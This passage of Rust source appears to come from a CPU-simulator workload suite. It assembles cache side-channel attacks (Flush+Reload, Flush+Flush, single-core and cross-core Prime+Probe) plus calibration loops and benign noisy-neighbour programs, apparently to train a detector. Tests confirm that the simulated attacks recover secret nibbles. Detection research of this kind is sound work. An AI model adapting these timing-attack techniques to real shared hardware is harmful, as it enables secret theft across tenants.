//!   and times re-loading them (`tol2bus.trans_dist::CleanEvict` storms).

use uarch_isa::{Assembler, MarkKind, Program, Reg};

use crate::layout::{
    emit_record_result, install_common_segments, LINE, PRIME_ARENA, USER_SECRET, VICTIM_BUF,
};

/// Number of victim lines monitored (one per secret nibble value).
pub const MONITORED_LINES: u64 = 16;

/// Stride between lines mapping to the same L1D set (128 sets × 64 B).
pub const L1D_SET_STRIDE: u64 = 128 * 64;

/// L1D associativity (ways primed per set).
pub const L1D_WAYS: u64 = 8;

/// Total L1D sets (the full-cache Prime+Probe sweep).
pub const L1D_SETS: u64 = 128;

/// Base of the Prime+Probe victim's working set: 48 lines on L1D sets
/// 32..80, colliding with the attacker's full-cache sweep but not with the
/// monitored sets 0..16 — the mutual-eviction churn a real victim causes.
pub const VICTIM_WORK: u64 = 0x34_0800;

/// Lines in the Prime+Probe victim's working set.
pub const VICTIM_WORK_LINES: u64 = 48;

/// Emits the shared victim function: reads the secret nibble selected by
/// `R15` (0 = high nibble of byte 0, 1 = low nibble of byte 0, ...) and
/// touches `VICTIM_BUF + nibble_value * 64`.
///
/// Clobbers `R5..=R8`.
fn emit_victim(a: &mut Assembler) {
    // byte index = R15 >> 1; use low nibble when R15 is odd.
    a.shri(Reg::R5, Reg::R15, 1);
    a.addi(Reg::R5, Reg::R5, USER_SECRET as i64);
    a.loadb(Reg::R6, Reg::R5, 0);
    a.andi(Reg::R7, Reg::R15, 1);
    let low = a.label();
    let have = a.label();
    a.bnez(Reg::R7, low);
    a.shri(Reg::R6, Reg::R6, 4);
    a.jmp(have);
    a.bind(low);
    a.andi(Reg::R6, Reg::R6, 15);
    a.bind(have);
    a.shli(Reg::R6, Reg::R6, 6);
    a.addi(Reg::R6, Reg::R6, VICTIM_BUF as i64);
    a.loadb(Reg::R8, Reg::R6, 0);
    a.ret();
}

fn install_victim_segments(a: &mut Assembler) {
    install_common_segments(a);
    a.data(VICTIM_BUF, vec![7u8; (MONITORED_LINES * LINE) as usize]);
}

/// Emits the Prime+Probe victim: the secret-dependent touch of
/// [`emit_victim`] plus a sweep over its 48-line working set — the part of
/// a real victim that keeps evicting the attacker's primed lines.
///
/// Clobbers `R5..=R9`.
fn emit_victim_with_work(a: &mut Assembler) {
    // Secret-dependent line touch (same as the shared victim, inlined so
    // the final `ret` covers both parts).
    a.shri(Reg::R5, Reg::R15, 1);
    a.addi(Reg::R5, Reg::R5, USER_SECRET as i64);
    a.loadb(Reg::R6, Reg::R5, 0);
    a.andi(Reg::R7, Reg::R15, 1);
    let low = a.label();
    let have = a.label();
    a.bnez(Reg::R7, low);
    a.shri(Reg::R6, Reg::R6, 4);
    a.jmp(have);
    a.bind(low);
    a.andi(Reg::R6, Reg::R6, 15);
    a.bind(have);
    a.shli(Reg::R6, Reg::R6, 6);
    a.addi(Reg::R6, Reg::R6, VICTIM_BUF as i64);
    a.loadb(Reg::R8, Reg::R6, 0);
    // Working-set sweep.
    a.li(Reg::R5, VICTIM_WORK as i64);
    a.li(Reg::R9, (VICTIM_WORK + VICTIM_WORK_LINES * LINE) as i64);
    let sweep = a.label();
    a.bind(sweep);
    a.loadb(Reg::R6, Reg::R5, 0);
    a.addi(Reg::R5, Reg::R5, LINE as i64);
    a.blt(Reg::R5, Reg::R9, sweep);
    a.ret();
}

/// Builds the Flush+Reload attack.
pub fn flush_reload() -> Program {
    let mut a = Assembler::new("flush-reload");
    install_victim_segments(&mut a);
    let victim = a.label();
    let outer = a.label();
    a.jmp(outer);
    a.bind(victim);
    emit_victim(&mut a);

    a.bind(outer);
    a.li(Reg::R20, 0); // nibble index
    let iter = a.label();
    a.bind(iter);
    a.mark(MarkKind::PhasePrime);
    // Flush the monitored lines.
    a.li(Reg::R10, VICTIM_BUF as i64);
    a.li(Reg::R11, MONITORED_LINES as i64);
    let fl = a.label();
    a.bind(fl);
    a.flush(Reg::R10, 0);
    a.addi(Reg::R10, Reg::R10, LINE as i64);
    a.subi(Reg::R11, Reg::R11, 1);
    a.bnez(Reg::R11, fl);
    a.fence(); // flushes complete before the victim runs

    a.mark(MarkKind::PhaseSpeculate); // victim-execution window
    a.mv(Reg::R15, Reg::R20);
    a.call(victim);

    a.mark(MarkKind::PhaseProbe);
    // Reload each line with a timed load; fastest = victim's nibble.
    // The memory barrier before each measurement is Flush+Reload's
    // signature quiesce footprint.
    let (k, best_t, best_k) = (Reg::R10, Reg::R11, Reg::R12);
    a.li(k, 0);
    a.li(best_t, i64::MAX);
    a.li(best_k, 0);
    let probe = a.label();
    let worse = a.label();
    a.bind(probe);
    a.shli(Reg::R5, k, 6);
    a.addi(Reg::R5, Reg::R5, VICTIM_BUF as i64);
    a.membar();
    a.rdcycle(Reg::R6);
    a.loadb(Reg::R7, Reg::R5, 0);
    a.rdcycle(Reg::R8);
    a.sub(Reg::R8, Reg::R8, Reg::R6);
    a.bge(Reg::R8, best_t, worse);
    a.mv(best_t, Reg::R8);
    a.mv(best_k, k);
    a.bind(worse);
    a.addi(k, k, 1);
    a.li(Reg::R5, MONITORED_LINES as i64);
    a.blt(k, Reg::R5, probe);

    emit_record_result(&mut a, Reg::R20, best_k);
    a.mark(MarkKind::LeakByte);
    a.mark(MarkKind::IterationEnd);
    a.addi(Reg::R20, Reg::R20, 1);
    a.andi(Reg::R20, Reg::R20, 31);
    a.jmp(iter);

    a.finish().expect("flush_reload assembles")
}

/// Builds the Flush+Flush attack: no loads, no cache misses from the
/// attacker — only flush-latency measurements.
pub fn flush_flush() -> Program {
    let mut a = Assembler::new("flush-flush");
    install_victim_segments(&mut a);
    let victim = a.label();
    let outer = a.label();
    a.jmp(outer);
    a.bind(victim);
    emit_victim(&mut a);

    a.bind(outer);
    a.li(Reg::R20, 0);
    let iter = a.label();
    a.bind(iter);
    a.mark(MarkKind::PhasePrime);
    // Reset: flush all monitored lines (untimed).
    a.li(Reg::R10, VICTIM_BUF as i64);
    a.li(Reg::R11, MONITORED_LINES as i64);
    let fl = a.label();
    a.bind(fl);
    a.flush(Reg::R10, 0);
    a.addi(Reg::R10, Reg::R10, LINE as i64);
    a.subi(Reg::R11, Reg::R11, 1);
    a.bnez(Reg::R11, fl);
    a.fence();

    a.mark(MarkKind::PhaseSpeculate);
    a.mv(Reg::R15, Reg::R20);
    a.call(victim);

    a.mark(MarkKind::PhaseProbe);
    // Time the flush of each line; the slowest flush hit cached data.
    let (k, best_t, best_k) = (Reg::R10, Reg::R11, Reg::R12);
    a.li(k, 0);
    a.li(best_t, -1);
    a.li(best_k, 0);
    let probe = a.label();
    let worse = a.label();
    a.bind(probe);
    a.shli(Reg::R5, k, 6);
    a.addi(Reg::R5, Reg::R5, VICTIM_BUF as i64);
    a.fence();
    a.rdcycle(Reg::R6);
    a.flush(Reg::R5, 0);
    a.rdcycle(Reg::R8);
    a.sub(Reg::R8, Reg::R8, Reg::R6);
    a.bge(best_t, Reg::R8, worse);
    a.mv(best_t, Reg::R8);
    a.mv(best_k, k);
    a.bind(worse);
    a.addi(k, k, 1);
    a.li(Reg::R5, MONITORED_LINES as i64);
    a.blt(k, Reg::R5, probe);

    emit_record_result(&mut a, Reg::R20, best_k);
    a.mark(MarkKind::LeakByte);
    a.mark(MarkKind::IterationEnd);
    a.addi(Reg::R20, Reg::R20, 1);
    a.andi(Reg::R20, Reg::R20, 31);
    a.jmp(iter);

    a.finish().expect("flush_flush assembles")
}

/// Builds the Prime+Probe attack: no flushes and no shared memory — the
/// attacker fills the victim's L1D sets with its own lines and times
/// re-loading them.
pub fn prime_probe() -> Program {
    let mut a = Assembler::new("prime-probe");
    install_victim_segments(&mut a);
    a.data(VICTIM_WORK, vec![9u8; (VICTIM_WORK_LINES * LINE) as usize]);
    let victim = a.label();
    let outer = a.label();
    a.jmp(outer);
    a.bind(victim);
    emit_victim_with_work(&mut a);

    a.bind(outer);
    a.li(Reg::R20, 0);
    let iter = a.label();
    a.bind(iter);
    a.mark(MarkKind::PhasePrime);
    // Prime the ENTIRE L1D with a tight linear sweep of a cache-sized
    // buffer (the classic full-cache prime). The victim's working set will
    // punch holes in it.
    let (s, w) = (Reg::R10, Reg::R11);
    // The sweep stops one line short of the arena end: the loop-exit
    // misprediction speculatively loads one line PAST the bound, and on a
    // power-of-two arena that wrong-path line maps back to set 0 —
    // polluting the attacker's own monitored sets. (Real PoCs fight the
    // same self-interference.)
    a.li(Reg::R5, PRIME_ARENA as i64);
    a.li(
        Reg::R6,
        (PRIME_ARENA + (L1D_SETS * L1D_WAYS - 1) * LINE) as i64,
    );
    let prime_sweep = a.label();
    a.bind(prime_sweep);
    a.loadb(Reg::R7, Reg::R5, 0);
    a.addi(Reg::R5, Reg::R5, LINE as i64);
    a.blt(Reg::R5, Reg::R6, prime_sweep);
    a.fence(); // priming complete before the victim runs

    a.mark(MarkKind::PhaseSpeculate);
    a.mv(Reg::R15, Reg::R20);
    a.call(victim);

    a.mark(MarkKind::PhaseProbe);
    // Probe the non-monitored sets first (untimed bulk — the attacker
    // re-establishes its lines; the victim's working set makes these miss
    // and evict every iteration: the sustained contention footprint).
    // Sets 16..127 are contiguous within each way-sized block, so each way
    // is one tight linear sweep.
    a.li(w, 0);
    let bulk_way = a.label();
    a.bind(bulk_way);
    a.li(Reg::R5, L1D_SET_STRIDE as i64);
    a.mul(Reg::R5, Reg::R5, w);
    a.addi(
        Reg::R5,
        Reg::R5,
        (PRIME_ARENA + MONITORED_LINES * LINE) as i64,
    );
    // One line short of the way block: the exit misprediction's wrong-path
    // load lands in set 127 instead of wrapping to set 0.
    a.addi(
        Reg::R6,
        Reg::R5,
        ((L1D_SETS - MONITORED_LINES - 1) * LINE) as i64,
    );
    let bulk_sweep = a.label();
    a.bind(bulk_sweep);
    a.loadb(Reg::R7, Reg::R5, 0);
    a.addi(Reg::R5, Reg::R5, LINE as i64);
    a.blt(Reg::R5, Reg::R6, bulk_sweep);
    a.addi(w, w, 1);
    a.li(Reg::R6, L1D_WAYS as i64);
    a.blt(w, Reg::R6, bulk_way);

    // Timed probe of the monitored sets: slowest = victim's nibble.
    let (best_t, best_s) = (Reg::R13, Reg::R14);
    a.li(best_t, -1);
    a.li(best_s, 0);
    a.li(s, 0);
    let pset = a.label();
    a.bind(pset);
    a.rdcycle(Reg::R12);
    a.li(w, 0);
    let pway = a.label();
    a.bind(pway);
    a.li(Reg::R5, L1D_SET_STRIDE as i64);
    a.mul(Reg::R5, Reg::R5, w);
    a.shli(Reg::R6, s, 6);
    a.add(Reg::R5, Reg::R5, Reg::R6);
    a.addi(Reg::R5, Reg::R5, PRIME_ARENA as i64);
    a.loadb(Reg::R7, Reg::R5, 0);
    a.addi(w, w, 1);
    a.li(Reg::R6, L1D_WAYS as i64);
    a.blt(w, Reg::R6, pway);
    a.rdcycle(Reg::R8);
    a.sub(Reg::R8, Reg::R8, Reg::R12);
    let worse = a.label();
    a.bge(best_t, Reg::R8, worse);
    a.mv(best_t, Reg::R8);
    a.mv(best_s, s);
    a.bind(worse);
    a.addi(s, s, 1);
    a.li(Reg::R6, MONITORED_LINES as i64);
    a.blt(s, Reg::R6, pset);

    emit_record_result(&mut a, Reg::R20, best_s);
    a.mark(MarkKind::LeakByte);
    a.mark(MarkKind::IterationEnd);
    a.addi(Reg::R20, Reg::R20, 1);
    a.andi(Reg::R20, Reg::R20, 31);
    a.jmp(iter);

    a.finish().expect("prime_probe assembles")
}

/// Which cache-attack technique a calibration program profiles.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum CalibrationKind {
    /// Flush+Reload: hit vs. miss load latency.
    FlushReload,
    /// Flush+Flush: flush latency on cached vs. uncached lines.
    FlushFlush,
    /// Prime+Probe: primed-set reload latency with and without eviction.
    PrimeProbe,
}

impl CalibrationKind {
    /// Short identifier used in workload names.
    pub fn tag(self) -> &'static str {
        match self {
            CalibrationKind::FlushReload => "fr",
            CalibrationKind::FlushFlush => "ff",
            CalibrationKind::PrimeProbe => "pp",
        }
    }
}

/// Builds a calibration (threshold-profiling) program for the given attack
/// technique. These loop forever, measuring the fast/slow timing pairs the
/// attack will later threshold on, accumulating running sums in the results
/// buffer.
pub fn calibration(kind: CalibrationKind) -> Program {
    let mut a = Assembler::new(format!("calibration-{}", kind.tag()));
    install_victim_segments(&mut a);

    let outer = a.label();
    a.li(Reg::R20, 0); // accumulated fast time
    a.li(Reg::R21, 0); // accumulated slow time
    a.bind(outer);
    a.mark(MarkKind::PhasePrime);
    a.li(Reg::R10, VICTIM_BUF as i64);

    match kind {
        CalibrationKind::FlushReload => {
            // Cached load (fast).
            a.loadb(Reg::R5, Reg::R10, 0);
            a.rdcycle(Reg::R6);
            a.loadb(Reg::R5, Reg::R10, 0);
            a.rdcycle(Reg::R7);
            a.sub(Reg::R7, Reg::R7, Reg::R6);
            a.add(Reg::R20, Reg::R20, Reg::R7);
            // Flushed load (slow).
            a.flush(Reg::R10, 0);
            a.rdcycle(Reg::R6);
            a.loadb(Reg::R5, Reg::R10, 0);
            a.rdcycle(Reg::R7);
            a.sub(Reg::R7, Reg::R7, Reg::R6);
            a.add(Reg::R21, Reg::R21, Reg::R7);
        }
        CalibrationKind::FlushFlush => {
            // Flush of uncached line (fast).
            a.flush(Reg::R10, 0);
            a.rdcycle(Reg::R6);
            a.flush(Reg::R10, 0);
            a.rdcycle(Reg::R7);
            a.sub(Reg::R7, Reg::R7, Reg::R6);
            a.add(Reg::R20, Reg::R20, Reg::R7);
            // Flush of cached line (slow).
            a.loadb(Reg::R5, Reg::R10, 0);
            a.rdcycle(Reg::R6);
            a.flush(Reg::R10, 0);
            a.rdcycle(Reg::R7);
            a.sub(Reg::R7, Reg::R7, Reg::R6);
            a.add(Reg::R21, Reg::R21, Reg::R7);
        }
        CalibrationKind::PrimeProbe => {
            // Prime+Probe calibration sweeps the whole cache, exactly like
            // the attack it is calibrating: time a hit-sweep of a primed
            // arena, then evict it with a conflicting arena and time the
            // miss-sweep. (One line short of each boundary for the same
            // wrong-path reason as the attack.)
            let sweep = |a: &mut Assembler, base: u64| {
                a.li(Reg::R10, base as i64);
                a.li(Reg::R11, (base + (L1D_SETS * L1D_WAYS - 1) * LINE) as i64);
                let lp = a.label();
                a.bind(lp);
                a.loadb(Reg::R5, Reg::R10, 0);
                a.addi(Reg::R10, Reg::R10, LINE as i64);
                a.blt(Reg::R10, Reg::R11, lp);
            };
            let conflict_arena = PRIME_ARENA + L1D_SETS * L1D_WAYS * LINE;
            // Prime, then timed hit-sweep (fast).
            sweep(&mut a, PRIME_ARENA);
            a.rdcycle(Reg::R12);
            sweep(&mut a, PRIME_ARENA);
            a.rdcycle(Reg::R13);
            a.sub(Reg::R13, Reg::R13, Reg::R12);
            a.add(Reg::R20, Reg::R20, Reg::R13);
            // Evict with the conflicting arena, then timed miss-sweep (slow).
            sweep(&mut a, conflict_arena);
            a.rdcycle(Reg::R12);
            sweep(&mut a, PRIME_ARENA);
            a.rdcycle(Reg::R13);
            a.sub(Reg::R13, Reg::R13, Reg::R12);
            a.add(Reg::R21, Reg::R21, Reg::R13);
        }
    }

    // Publish running sums (overflow-free enough for our run lengths).
    a.li(Reg::R5, crate::layout::RESULTS as i64);
    a.store(Reg::R20, Reg::R5, 40);
    a.store(Reg::R21, Reg::R5, 48);
    // Real calibration loops spend most of their time on bookkeeping
    // (histograms, statistics, printing) between measurements; model that
    // so the calibration's cache-traffic rate stays comparable to the
    // attack it calibrates rather than saturating the normalization maxima.
    crate::layout::emit_delay(&mut a, 2000);
    a.mark(MarkKind::IterationEnd);
    a.jmp(outer);

    a.finish().expect("calibration assembles")
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::layout::{RESULTS, SECRET};
    use sim_cpu::{Core, CoreConfig};

    fn nibble_of(i: u64) -> u8 {
        let b = SECRET[(i >> 1) as usize];
        if i & 1 == 0 {
            b >> 4
        } else {
            b & 15
        }
    }

    fn recovered_nibbles(p: Program, insts: u64) -> (usize, usize, Core) {
        let mut core = Core::new(CoreConfig::default(), p);
        core.run(insts);
        let mut attempted = 0;
        let mut correct = 0;
        for i in 0..32u64 {
            let got = core.mem().memory().read(RESULTS + i, 1) as u8;
            attempted += 1;
            if got == nibble_of(i) {
                correct += 1;
            }
        }
        (correct, attempted, core)
    }

    #[test]
    fn flush_reload_recovers_victim_nibbles() {
        let (correct, _, core) = recovered_nibbles(flush_reload(), 2_000_000);
        assert!(
            correct >= 24,
            "F+R should recover most nibbles, got {correct}/32"
        );
        assert!(
            core.stats().fetch.pending_quiesce_stall_cycles.value() > 0,
            "F+R's membar timing leaves a quiesce footprint"
        );
    }

    #[test]
    fn flush_flush_recovers_without_attacker_loads() {
        let (correct, _, core) = recovered_nibbles(flush_flush(), 2_000_000);
        assert!(
            correct >= 20,
            "F+F should recover nibbles, got {correct}/32"
        );
        assert!(
            core.stats().commit.non_spec_stalls.value() > 0,
            "flush storms stall commit non-speculatively"
        );
    }

    #[test]
    fn prime_probe_detects_victim_set() {
        let (correct, _, core) = recovered_nibbles(prime_probe(), 4_000_000);
        assert!(
            correct >= 16,
            "P+P should recover nibbles, got {correct}/32"
        );
        assert!(
            core.mem()
                .tol2bus()
                .stats()
                .trans_dist
                .get(sim_mem::MemCmd::CleanEvict)
                > 0,
            "priming evicts clean lines onto the L2 bus"
        );
    }

    #[test]
    fn calibrations_separate_fast_and_slow() {
        for kind in [
            CalibrationKind::FlushReload,
            CalibrationKind::FlushFlush,
            CalibrationKind::PrimeProbe,
        ] {
            let mut core = Core::new(CoreConfig::default(), calibration(kind));
            core.run(300_000);
            let fast = core.mem().memory().read(RESULTS + 40, 8);
            let slow = core.mem().memory().read(RESULTS + 48, 8);
            assert!(
                slow > fast,
                "{kind:?}: slow path ({slow}) must exceed fast path ({fast})"
            );
        }
    }
}
