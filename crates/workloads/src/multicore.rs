//! Cross-core scenarios: programs that only make sense on a multi-core
//! [`Machine`](../../sim_cpu/machine/struct.Machine.html) sharing an L2.
//!
//! Each [`CoreScenario`] is a vector of programs, one per core, with core 0
//! as the foreground tenant (the attacker in malicious scenarios). The
//! attacks move the classic single-core channels across the core boundary:
//!
//! - **Cross-core Prime+Probe** fills shared-L2 sets with the attacker's
//!   own lines and times re-probing them; the victim's secret-dependent
//!   touch on the *other* core evicts one primed way, and the L2's snoop
//!   back-invalidation removes the attacker's L1 copy, so the timed probe
//!   genuinely misses all the way to DRAM.
//! - **Cross-core Flush+Reload** flushes lines of a (timing-)shared page
//!   out of the common L2 and times reloading them; a fast reload means
//!   the victim core refetched the line in between.
//! - **Spectre co-location** runs an unmodified single-core Spectre v1
//!   next to a streaming neighbor — the attack footprint must survive
//!   benign bus noise.
//!
//! The benign scenarios are noisy-neighbor pairs: co-runners that contend
//! hard on the shared L2 and buses (stream sweeps, pointer chasing,
//! compute) without any secret-correlated structure. A detector that
//! merely smells bus contention will false-positive on these; the
//! perceptron has to find the prime/probe periodicity instead.

use uarch_isa::{Assembler, MarkKind, Program, Reg};

use crate::cache_attacks::MONITORED_LINES;
use crate::layout::{emit_delay, emit_record_result, LINE, RESULTS, USER_SECRET, VICTIM_BUF};
use crate::{benign, spectre, Class, Family, SpectreV1Params, Workload};

/// Stride between addresses mapping to the same set of the shared L2
/// (4096 sets × 64 B lines).
pub const L2_SET_STRIDE: u64 = 4096 * 64;

/// Ways per shared-L2 set (the eviction-set size for one set).
pub const L2_WAYS: u64 = 8;

/// Base of the cross-core attacker's eviction arena. Maps to L2 set 0,
/// like [`crate::layout::VICTIM_BUF`] — so arena line `s`
/// contends with the victim's nibble-`s` touch in the shared L2.
pub const XCORE_ARENA: u64 = 0x100_0000;

/// Working-set base for the cross-core victim's benign churn.
const XCORE_VICTIM_WORK: u64 = 0x34_0800;

/// Lines in the cross-core victim's working set.
const XCORE_VICTIM_WORK_LINES: u64 = 48;

/// A multi-core workload: one program per core, core 0 foreground.
#[derive(Debug, Clone)]
pub struct CoreScenario {
    /// Unique scenario name.
    pub name: String,
    /// Ground-truth class of the scenario as a whole (malicious iff any
    /// core runs an attack — by convention core 0).
    pub class: Class,
    /// Attack family of the foreground program.
    pub family: Family,
    /// One program per core; index = core id. Core 0 is the attacker in
    /// malicious scenarios; co-runners are benign tenants or victims.
    pub programs: Vec<Program>,
}

impl CoreScenario {
    fn new(name: &str, class: Class, family: Family, programs: Vec<Program>) -> Self {
        Self {
            name: name.to_string(),
            class,
            family,
            programs,
        }
    }

    /// Number of cores the scenario needs.
    pub fn n_cores(&self) -> usize {
        self.programs.len()
    }

    /// Ground-truth class of the program on `core`: the scenario class
    /// for the foreground core 0, benign for every co-runner (victims and
    /// neighbors are not attackers).
    pub fn core_class(&self, core: usize) -> Class {
        if core == 0 {
            self.class
        } else {
            Class::Benign
        }
    }

    /// Flattens the scenario into one labeled [`Workload`] per core
    /// (named `scenario#coreN`) so single-program tooling — the static
    /// lint, per-program evidence extraction — can chew on each tenant's
    /// program individually.
    pub fn core_workloads(&self) -> Vec<Workload> {
        self.programs
            .iter()
            .enumerate()
            .map(|(i, p)| Workload {
                name: format!("{}#core{i}", self.name),
                class: self.core_class(i),
                family: if i == 0 { self.family } else { Family::Benign },
                program: p.clone(),
            })
            .collect()
    }
}

/// The cross-core victim: forever iterates the secret nibble index,
/// touching `VICTIM_BUF + nibble * 64` (shared-L2 sets 0..16), then churns
/// a benign working set — a tenant that leaks through the shared cache
/// without cooperating with anyone.
pub fn xcore_victim() -> Program {
    let mut a = Assembler::new("xcore-victim");
    a.data(USER_SECRET, crate::layout::SECRET.to_vec());
    a.data(VICTIM_BUF, vec![7u8; (MONITORED_LINES * LINE) as usize]);
    a.data(
        XCORE_VICTIM_WORK,
        vec![9u8; (XCORE_VICTIM_WORK_LINES * LINE) as usize],
    );
    a.li(Reg::R20, 0); // nibble index
    let iter = a.label();
    a.bind(iter);
    // Secret-dependent touch: nibble = secret byte [R20 >> 1], high/low by
    // parity of R20.
    a.shri(Reg::R5, Reg::R20, 1);
    a.addi(Reg::R5, Reg::R5, USER_SECRET as i64);
    a.loadb(Reg::R6, Reg::R5, 0);
    a.andi(Reg::R7, Reg::R20, 1);
    let low = a.label();
    let have = a.label();
    a.bnez(Reg::R7, low);
    a.shri(Reg::R6, Reg::R6, 4);
    a.jmp(have);
    a.bind(low);
    a.andi(Reg::R6, Reg::R6, 15);
    a.bind(have);
    a.shli(Reg::R6, Reg::R6, 6);
    a.addi(Reg::R6, Reg::R6, VICTIM_BUF as i64);
    a.loadb(Reg::R8, Reg::R6, 0);
    // Benign working-set churn between secret touches.
    a.li(Reg::R5, XCORE_VICTIM_WORK as i64);
    a.li(
        Reg::R9,
        (XCORE_VICTIM_WORK + XCORE_VICTIM_WORK_LINES * LINE) as i64,
    );
    let sweep = a.label();
    a.bind(sweep);
    a.loadb(Reg::R6, Reg::R5, 0);
    a.addi(Reg::R5, Reg::R5, LINE as i64);
    a.blt(Reg::R5, Reg::R9, sweep);
    emit_delay(&mut a, 100);
    a.addi(Reg::R20, Reg::R20, 1);
    a.andi(Reg::R20, Reg::R20, 31);
    a.jmp(iter);
    a.finish().expect("xcore_victim assembles")
}

/// The cross-core Prime+Probe attacker: primes shared-L2 sets 0..16 with
/// 8 ways each from its private arena, waits, then times a per-set probe
/// sweep. A slow set means the victim core touched it (its fill evicted a
/// primed way, and the snoop back-invalidation took the attacker's L1
/// copy with it — the probe miss goes to DRAM).
pub fn xcore_prime_probe() -> Program {
    let mut a = Assembler::new("xcore-prime-probe");
    a.data(RESULTS, vec![0u8; 64]);
    a.li(Reg::R21, 0); // result slot
    let iter = a.label();
    a.bind(iter);
    a.mark(MarkKind::PhasePrime);
    // Prime: for set s in 0..16, touch all 8 ways (stride = L2 set span).
    let (s, w) = (Reg::R10, Reg::R11);
    a.li(s, 0);
    let pset = a.label();
    a.bind(pset);
    a.li(w, 0);
    let pway = a.label();
    a.bind(pway);
    a.li(Reg::R5, L2_SET_STRIDE as i64);
    a.mul(Reg::R5, Reg::R5, w);
    a.shli(Reg::R6, s, 6);
    a.add(Reg::R5, Reg::R5, Reg::R6);
    a.addi(Reg::R5, Reg::R5, XCORE_ARENA as i64);
    a.loadb(Reg::R7, Reg::R5, 0);
    a.addi(w, w, 1);
    a.li(Reg::R6, L2_WAYS as i64);
    a.blt(w, Reg::R6, pway);
    a.addi(s, s, 1);
    a.li(Reg::R6, MONITORED_LINES as i64);
    a.blt(s, Reg::R6, pset);
    a.fence();

    // Victim-execution window: the other core runs concurrently; all the
    // attacker can do is wait.
    a.mark(MarkKind::PhaseSpeculate);
    emit_delay(&mut a, 600);

    a.mark(MarkKind::PhaseProbe);
    // Probe: time the 8-way reload of each set; slowest = victim's nibble.
    let (best_t, best_s) = (Reg::R13, Reg::R14);
    a.li(best_t, -1);
    a.li(best_s, 0);
    a.li(s, 0);
    let qset = a.label();
    let worse = a.label();
    a.bind(qset);
    a.membar();
    a.rdcycle(Reg::R8);
    a.li(w, 0);
    let qway = a.label();
    a.bind(qway);
    a.li(Reg::R5, L2_SET_STRIDE as i64);
    a.mul(Reg::R5, Reg::R5, w);
    a.shli(Reg::R6, s, 6);
    a.add(Reg::R5, Reg::R5, Reg::R6);
    a.addi(Reg::R5, Reg::R5, XCORE_ARENA as i64);
    a.loadb(Reg::R7, Reg::R5, 0);
    a.addi(w, w, 1);
    a.li(Reg::R6, L2_WAYS as i64);
    a.blt(w, Reg::R6, qway);
    a.rdcycle(Reg::R9);
    a.sub(Reg::R9, Reg::R9, Reg::R8);
    a.bge(best_t, Reg::R9, worse);
    a.mv(best_t, Reg::R9);
    a.mv(best_s, s);
    a.bind(worse);
    a.addi(s, s, 1);
    a.li(Reg::R6, MONITORED_LINES as i64);
    a.blt(s, Reg::R6, qset);

    emit_record_result(&mut a, Reg::R21, best_s);
    a.mark(MarkKind::LeakByte);
    a.mark(MarkKind::IterationEnd);
    a.addi(Reg::R21, Reg::R21, 1);
    a.andi(Reg::R21, Reg::R21, 31);
    a.jmp(iter);
    a.finish().expect("xcore_prime_probe assembles")
}

/// The cross-core Flush+Reload attacker: flushes the victim-buffer lines
/// out of the shared L2 (the flush's back-invalidation also snoops the
/// victim core's L1 copies), waits, then times reloading each line. A
/// fast reload hits data the victim core refetched into the shared L2.
pub fn xcore_flush_reload() -> Program {
    let mut a = Assembler::new("xcore-flush-reload");
    a.data(RESULTS, vec![0u8; 64]);
    a.li(Reg::R21, 0);
    let iter = a.label();
    a.bind(iter);
    a.mark(MarkKind::PhasePrime);
    a.li(Reg::R10, VICTIM_BUF as i64);
    a.li(Reg::R11, MONITORED_LINES as i64);
    let fl = a.label();
    a.bind(fl);
    a.flush(Reg::R10, 0);
    a.addi(Reg::R10, Reg::R10, LINE as i64);
    a.subi(Reg::R11, Reg::R11, 1);
    a.bnez(Reg::R11, fl);
    a.fence();

    a.mark(MarkKind::PhaseSpeculate);
    emit_delay(&mut a, 600);

    a.mark(MarkKind::PhaseProbe);
    let (k, best_t, best_k) = (Reg::R10, Reg::R11, Reg::R12);
    a.li(k, 0);
    a.li(best_t, i64::MAX);
    a.li(best_k, 0);
    let probe = a.label();
    let worse = a.label();
    a.bind(probe);
    a.shli(Reg::R5, k, 6);
    a.addi(Reg::R5, Reg::R5, VICTIM_BUF as i64);
    a.membar();
    a.rdcycle(Reg::R6);
    a.loadb(Reg::R7, Reg::R5, 0);
    a.rdcycle(Reg::R8);
    a.sub(Reg::R8, Reg::R8, Reg::R6);
    a.bge(Reg::R8, best_t, worse);
    a.mv(best_t, Reg::R8);
    a.mv(best_k, k);
    a.bind(worse);
    a.addi(k, k, 1);
    a.li(Reg::R5, MONITORED_LINES as i64);
    a.blt(k, Reg::R5, probe);

    emit_record_result(&mut a, Reg::R21, best_k);
    a.mark(MarkKind::LeakByte);
    a.mark(MarkKind::IterationEnd);
    a.addi(Reg::R21, Reg::R21, 1);
    a.andi(Reg::R21, Reg::R21, 31);
    a.jmp(iter);
    a.finish().expect("xcore_flush_reload assembles")
}

/// A noisy neighbor: an endless streaming sweep over `lines` cache lines
/// starting at `base` — maximum benign pressure on the shared L2 and
/// both buses.
pub fn stream_neighbor(name: &str, base: u64, lines: u64) -> Program {
    let mut a = Assembler::new(name);
    let top = a.label();
    a.bind(top);
    a.li(Reg::R10, base as i64);
    a.li(Reg::R11, (base + lines * LINE) as i64);
    let sweep = a.label();
    a.bind(sweep);
    a.loadb(Reg::R12, Reg::R10, 0);
    a.addi(Reg::R10, Reg::R10, LINE as i64);
    a.blt(Reg::R10, Reg::R11, sweep);
    a.jmp(top);
    a.finish().expect("stream_neighbor assembles")
}

/// A compute-bound neighbor: an endless ALU spin that barely touches
/// memory (the quiet co-tenant).
pub fn compute_neighbor(name: &str) -> Program {
    let mut a = Assembler::new(name);
    a.li(Reg::R10, 1);
    a.li(Reg::R11, 0);
    let top = a.label();
    a.bind(top);
    a.add(Reg::R11, Reg::R11, Reg::R10);
    a.shli(Reg::R12, Reg::R11, 1);
    a.sub(Reg::R12, Reg::R12, Reg::R10);
    a.jmp(top);
    a.finish().expect("compute_neighbor assembles")
}

/// The cross-core scenario suite: four attacker/victim (or attacker/
/// neighbor) pairs and four benign noisy-neighbor pairs, all two-core.
///
/// Kept out of [`full_suite`](crate::full_suite) — those sizes are pinned
/// by the single-core perceptron-corpus tests; multi-core collection has
/// its own suite.
pub fn cross_core_suite() -> Vec<CoreScenario> {
    use Class::{Benign as B, Malicious as M};
    let b = |p: Result<Program, uarch_isa::AsmError>| p.expect("benign kernel assembles");
    vec![
        CoreScenario::new(
            "xcore-prime-probe-l2",
            M,
            Family::PrimeProbe,
            vec![xcore_prime_probe(), xcore_victim()],
        ),
        CoreScenario::new(
            "xcore-prime-probe-quiet",
            M,
            Family::PrimeProbe,
            vec![xcore_prime_probe(), compute_neighbor("quiet-tenant")],
